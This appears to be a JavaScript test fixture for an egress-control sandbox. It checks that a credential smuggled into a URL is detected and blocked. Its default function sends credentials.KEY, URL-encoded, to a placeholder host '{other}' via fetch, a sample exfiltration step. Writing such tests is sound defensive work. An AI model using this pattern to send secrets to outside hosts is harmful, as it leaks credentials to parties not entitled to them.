export const attempt = {
  tries: "to send a value that it was given itself to another host in the address",
  refusedBecause: "addresses are searched, as they are encoded",
  ends: { code: "egress_denied", message: "it would be sent the credential KEY" },
  receipt: { host: "{other}", reason: "it would be sent the credential KEY" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async ({ other }, { credentials }) => {
  await fetch(`http://${other}/reached?q=${encodeURIComponent(credentials.KEY)}`);
  return "got through";
};
